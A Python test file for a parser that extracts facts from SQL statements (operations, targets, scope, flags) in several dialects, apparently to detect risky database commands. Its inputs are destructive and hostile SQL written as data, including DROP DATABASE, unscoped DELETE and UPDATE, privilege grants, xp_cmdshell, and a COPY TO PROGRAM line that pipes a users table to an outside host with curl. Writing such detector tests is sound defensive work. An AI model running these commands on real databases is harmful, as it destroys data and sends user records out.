"""SQL facts: operations, targets, flags and scope of statements in several dialects, with
spans that point at the right characters of the original text."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import cbm.facts.sql  # noqa: F401  (registers the "sql" parser)
from cbm.facts.base import PARSERS, Collector, Fact
from cbm.facts.text import Text, json_strings


def read(sql: str) -> list[Fact]:
    collector = Collector()
    collector.parse("sql", Text.plain(sql))
    return collector.facts


def of(facts: list[Fact], kind: str, parser: str = "sqlglot") -> list[Fact]:
    return [f for f in facts if f.kind == kind and f.parser == parser]


def at(source: str, fact: Fact) -> str:
    return source[fact.span[0]:fact.span[1]]


@pytest.fixture
def shell_calls(monkeypatch):
    """What the SQL parser hands to the shell parser, whether or not that parser is loaded."""
    calls: list[Text] = []
    monkeypatch.setitem(PARSERS, "shell", lambda out, text: calls.append(text))
    return calls


def test_drop_table_cascade():
    sql = "DROP TABLE users CASCADE"
    facts = read(sql)
    [op] = of(facts, "operation")
    assert (op.value, at(sql, op)) == ("drop", "DROP TABLE")
    [target] = of(facts, "target")
    assert target.value == "users" and "table" in target.tags and at(sql, target) == "users"
    [flag] = of(facts, "flag")
    assert (flag.value, at(sql, flag)) == ("cascade", "CASCADE")
    assert not of(facts, "parse_error")


def test_delete_without_where_is_every_row():
    sql = "DELETE FROM orders"
    facts = read(sql)
    assert [f.value for f in of(facts, "operation")] == ["delete"]
    [scope] = of(facts, "scope")
    assert scope.value == "no_where" and at(sql, scope) == sql
    assert [f.value for f in of(facts, "target")] == ["orders"]


def test_delete_with_where():
    sql = "DELETE FROM orders WHERE id=3"
    [scope] = of(read(sql), "scope")
    assert (scope.value, at(sql, scope)) == ("where", "WHERE id=3")


def test_where_that_is_always_true_is_all_rows():
    sql = "DELETE FROM orders WHERE 1=1"
    assert [f.value for f in of(read(sql), "scope")] == ["all_rows"]
    sql = "UPDATE users SET admin = true WHERE name = 'x' OR 'a'='a'"
    assert [f.value for f in of(read(sql), "scope")] == ["all_rows"]


def test_update_without_where():
    sql = "UPDATE accounts SET balance=0"
    facts = read(sql)
    [op] = of(facts, "operation")
    assert (op.value, at(sql, op)) == ("write", "UPDATE")
    assert [f.value for f in of(facts, "scope")] == ["no_where"]
    [target] = of(facts, "target")
    assert at(sql, target) == "accounts"


def test_where_inside_a_subquery_does_not_count():
    sql = "UPDATE t SET a = (SELECT b FROM c WHERE d = 1)"
    assert [f.value for f in of(read(sql), "scope")] == ["no_where"]


def test_truncate_two_tables():
    sql = "TRUNCATE customers, invoices CASCADE"
    facts = read(sql)
    assert [f.value for f in of(facts, "operation")] == ["truncate"]
    targets = of(facts, "target")
    assert [f.value for f in targets] == ["customers", "invoices"]
    assert [at(sql, f) for f in targets] == ["customers", "invoices"]
    assert all("table" in f.tags for f in targets)
    assert [f.value for f in of(facts, "flag")] == ["cascade"]


def test_grant_all_privileges():
    sql = "GRANT ALL PRIVILEGES ON *.* TO 'x'@'%'"
    facts = read(sql)
    [op] = of(facts, "operation")
    assert (op.value, at(sql, op)) == ("user_change", "GRANT")
    [user] = of(facts, "target")
    assert "user" in user.tags and at(sql, user) == "'x'@'%'"


@pytest.mark.parametrize("sql, grant", [
    ("GRANT ALL PRIVILEGES ON *.* TO 'x'@'%'", True),
    ("GRANT rds_superuser TO bob", True),
    ("ALTER ROLE intern WITH SUPERUSER", True),
    ("CREATE ROLE reporting LOGIN SUPERUSER PASSWORD 'r'", True),
    ("GRANT SELECT ON ALL TABLES IN SCHEMA public TO reporting", False),  # one narrow right, on many tables
    ("GRANT SELECT ON orders TO admin", False),  # a grantee named admin gets only SELECT
    ("CREATE USER admin WITH PASSWORD 'x'", False),
])
def test_a_grant_of_everything_or_an_admins_power_is_tagged(sql, grant):
    [op] = [f for f in of(read(sql), "operation") if f.value == "user_change"][:1]
    assert ("grant" in op.tags) == grant


def test_user_and_role_statements():
    assert [f.value for f in of(read("DROP USER bob"), "operation")] == ["user_change"]
    assert [f.value for f in of(read("CREATE ROLE admin"), "operation")] == ["user_change"]
    assert [f.value for f in of(read("REVOKE ALL ON t FROM bob"), "operation")] == ["user_change"]
    sql = "SET PASSWORD FOR 'bob'@'%' = 'x'"
    [op] = of(read(sql), "operation")
    assert (op.value, at(sql, op)) == ("user_change", "SET PASSWORD")


def test_select_with_limit():
    sql = "SELECT * FROM t LIMIT 5"
    facts = read(sql)
    [op] = of(facts, "operation")
    assert (op.value, at(sql, op)) == ("read", "SELECT")
    [scope] = of(facts, "scope")
    assert (scope.value, at(sql, scope)) == ("rows:5", "LIMIT 5")
    assert [f.value for f in of(facts, "target")] == ["t"]


def test_select_without_where_has_no_where_scope():
    assert not of(read("SELECT name FROM users"), "scope")


def test_each_statement_is_its_own_command():
    sql = "DROP TABLE IF EXISTS a; DELETE FROM b WHERE x = 'it''s; fine'; SELECT 1"
    facts = read(sql)
    ops = of(facts, "operation")
    assert [f.value for f in ops] == ["drop", "delete", "read"]
    assert len({f.command for f in ops}) == 3
    [flag] = of(facts, "flag")
    assert (flag.value, at(sql, flag)) == ("if_exists", "IF EXISTS")
    assert flag.command == ops[0].command
    [scope] = of(facts, "scope")
    assert scope.command == ops[1].command and at(sql, scope) == "WHERE x = 'it''s; fine'"
    assert not of(facts, "parse_error")


def test_dollar_quoted_body_is_not_split():
    sql = "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1; DROP TABLE z; $$ LANGUAGE sql; DROP SCHEMA s CASCADE"
    facts = read(sql)
    assert [f.value for f in of(facts, "operation")] == ["create", "drop"]
    schema = [f for f in of(facts, "target") if "schema" in f.tags]
    assert [at(sql, f) for f in schema] == ["s"]


def test_mysql_only_statement():
    sql = "DROP TABLE `shop`.`orders`"
    facts = read(sql)
    assert not of(facts, "parse_error")
    [target] = of(facts, "target")
    assert target.value == "shop.orders"
    assert sql[target.span[0]:target.span[1]].startswith("shop") and sql[:target.span[1]].endswith("orders")
    assert [f.value for f in of(read("REPLACE INTO t VALUES (1)"), "operation")] == ["write"]


def test_tsql_only_statement():
    sql = "SELECT TOP 10 * FROM [dbo].[users]"
    facts = read(sql)
    assert not of(facts, "parse_error")
    assert [f.value for f in of(facts, "scope")] == ["rows:10"]
    assert [f.value for f in of(facts, "target")] == ["dbo.users"]


def test_tsql_go_separates_batches():
    facts = read("DELETE FROM a\nGO\nDROP TABLE #tmp")
    ops = of(facts, "operation")
    assert [f.value for f in ops] == ["delete", "drop"]
    assert "#tmp" in [f.value for f in of(facts, "target")]


def test_garbage_is_a_parse_error_not_an_exception():
    facts = read("hello world foo")
    assert of(facts, "parse_error") and not of(facts, "operation")
    facts = read("}{ ;; ''' \\\\ $$")
    assert not of(facts, "operation")


def test_unreadable_statement_still_gives_keyword_facts():
    sql = "DELETE FROM orders WHERE ("
    facts = read(sql)
    assert of(facts, "parse_error")
    assert [f.value for f in of(facts, "operation")] == ["delete"]
    assert [f.value for f in of(facts, "target")] == ["orders"]
    assert [f.value for f in of(facts, "scope")] == ["where"]


def test_into_outfile_writes_a_file():
    sql = "SELECT * INTO OUTFILE '/tmp/dump.csv' FROM users"
    facts = read(sql)
    assert "write" in [f.value for f in of(facts, "operation")]
    files = [f for f in of(facts, "target") if "file" in f.tags]
    assert [at(sql, f) for f in files] == ["/tmp/dump.csv"]


def test_vacuum_full_is_a_maintenance_query():
    sql = "VACUUM FULL"
    [op] = of(read(sql), "operation")
    assert op.value == "query" and op.tags == ("vacuum",) and at(sql, op) == "VACUUM"


def test_create_alter_and_read_statements():
    assert [f.value for f in of(read("CREATE TABLE t (a int)"), "operation")] == ["create"]
    assert [f.value for f in of(read("ALTER TABLE t ADD COLUMN c int"), "operation")] == ["write"]
    assert [f.value for f in of(read("INSERT INTO s.t (a) VALUES (1)"), "target")] == ["s.t"]
    assert [f.value for f in of(read("SHOW TABLES"), "operation")] == ["read"]
    assert [f.value for f in of(read("EXPLAIN SELECT 1"), "operation")] == ["read"]
    assert [f.value for f in of(read("EXPLAIN DELETE FROM invoices"), "operation")] == ["read"]  # a plan only


@pytest.mark.parametrize("sql", ["EXPLAIN ANALYZE DELETE FROM invoices WHERE created_at < now()",
                                 "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM invoices WHERE created_at < now()"])
def test_explain_analyze_runs_the_statement_it_explains(sql):
    """ANALYZE executes the statement to time it: the rows are gone."""
    facts = read(sql)
    assert [f.value for f in of(facts, "operation")] == ["delete"]
    assert [f.value for f in of(facts, "target")] == ["invoices"] and [f.value for f in of(facts, "scope")] == ["where"]
    facts = read("DROP DATABASE production")
    assert [(f.value, f.tags[-1]) for f in of(facts, "target")] == [("production", "database")]


def test_on_delete_cascade_is_not_a_cascade_flag():
    assert not of(read("ALTER TABLE t ADD FOREIGN KEY (a) REFERENCES b(id) ON DELETE CASCADE"), "flag")


def test_copy_to_program_executes_a_shell_command(shell_calls):
    sql = "COPY users TO PROGRAM 'curl -d @- http://x.io'"
    facts = read(sql)
    assert [f.value for f in of(facts, "operation")] == ["execute"]
    [command] = shell_calls
    assert command.value == "curl -d @- http://x.io"
    assert sql[command.span()[0]:command.span()[1]] == "curl -d @- http://x.io"


def test_copy_to_file_writes_it():
    sql = "COPY users TO '/tmp/users.csv'"
    facts = read(sql)
    assert [f.value for f in of(facts, "operation")] == ["write"]
    assert "/tmp/users.csv" in [at(sql, f) for f in of(facts, "target")]


def test_xp_cmdshell_and_dynamic_sql(shell_calls):
    facts = read("EXEC master..xp_cmdshell 'whoami'")
    assert "xp_cmdshell" in [t for f in of(facts, "operation") for t in f.tags]
    assert [t.value for t in shell_calls] == ["whoami"]
    sql = "EXEC('DROP TABLE x')"
    facts = read(sql)
    drop = [f for f in of(facts, "operation") if f.value == "drop"]
    assert drop and at(sql, drop[0]) == "DROP TABLE"


def test_psql_meta_commands():
    facts = read("\\dt")
    assert [f.value for f in of(facts, "operation")] == ["list"] and not of(facts, "parse_error")
    assert [f.value for f in of(read("\\l"), "operation")] == ["list"]
    sql = "\\c shop\nSELECT 1;"
    facts = read(sql)
    assert [f.value for f in of(facts, "operation")] == ["read", "read"]
    [db] = of(facts, "target")
    assert "database" in db.tags and at(sql, db) == "shop"


def test_empty_input_gives_nothing():
    assert read("") == []
    assert read("   \n ") == []
    assert read("-- just a comment") == []


def test_spans_map_through_json_escapes():
    raw = '{"q": "DROP TABLE \\u0075sers"}'
    [_, (_, value)] = json_strings(raw)
    assert value.value == "DROP TABLE users"
    collector = Collector()
    collector.parse("sql", value)
    [target] = of(collector.facts, "target")
    assert target.value == "users"
    assert raw[target.span[0]:target.span[1]] == "\\u0075sers"
    [op] = of(collector.facts, "operation")
    assert raw[op.span[0]:op.span[1]] == "DROP TABLE"


def test_spans_are_offset_by_the_text_base():
    sql = "DELETE FROM orders"
    collector = Collector()
    collector.parse("sql", Text.plain(sql, base=100))
    [target] = of(collector.facts, "target")
    assert target.span == (112, 118)


def test_tsql_guarded_statement_is_read():
    sql = "IF OBJECT_ID('dbo.users', 'U') IS NOT NULL DROP TABLE dbo.users"
    facts = read(sql)
    [op] = of(facts, "operation")
    assert (op.value, at(sql, op)) == ("drop", "DROP TABLE")
    assert [f.value for f in of(facts, "target")] == ["dbo.users"]


@settings(derandomize=True, max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(["DROP", "TABLE", "t", "'", '"', "`", "$$", ";", "(", ")", "--", "/*", "\\", "\n",
                                 " ", "WHERE", "1=1", "LIMIT", "5", "@", "[", "#", "EXEC", "xp_cmdshell", "COPY",
                                 "TO", "PROGRAM", "IF", "EXISTS", ",", "GO", "é", "DELETE", "FROM", ".tables"]),
                max_size=16))
def test_any_text_gives_facts_inside_it_and_no_crash(words):
    sql = "".join(words)
    collector = Collector()
    collector.parse("sql", Text.plain(sql))
    for fact in collector.facts:
        assert 0 <= fact.span[0] <= fact.span[1] <= max(len(sql), 1)
        if fact.kind == "parse_error":  # the collector names a parser's crash by the language
            assert fact.parser not in ("sql", "python"), fact
